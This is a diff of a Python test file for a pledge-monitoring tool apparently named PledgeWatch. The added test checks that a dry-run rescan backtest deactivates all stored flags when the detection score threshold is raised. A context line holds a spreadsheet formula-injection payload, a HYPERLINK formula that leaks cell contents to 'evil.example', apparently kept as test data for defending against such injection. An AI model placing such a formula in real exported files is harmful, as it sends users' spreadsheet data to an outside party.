@@ -156,6 +156,22 @@ def test_rescan_dry_run_as_json_and_a_backtest_of_a_folder(run, tmp_path: Path):
     assert "scanned" in run("rescan", "--since", "2024-01-01").output
 
 
+def test_a_backtest_detects_as_the_database_would_from_its_configured_score(
+    run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+):
+    folder = tmp_path / "cat"
+    folder.mkdir()
+    src = shipped_catalogue() / f"{AMAZON}.yaml"
+    (folder / src.name).write_text(src.read_text(encoding="utf-8"), encoding="utf-8")
+    args = ("rescan", "--dry-run", "--catalogue", str(folder), "--pledge", AMAZON)
+    stored = flag_ids(open_database(f"sqlite:///{run.path}"), AMAZON)
+    assert stored
+    # From a score no finding reaches, the backtest would take every stored flag away.
+    monkeypatch.setenv("PLEDGEWATCH_DETECT_MIN_SCORE", "1.0")
+    changes = json.loads(run(*args, "--format", "json").output)["changes"]
+    assert {c["action"] for c in changes} == {"deactivated"} and len(changes) == len(stored)
+
+
 FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"open")'
 
 
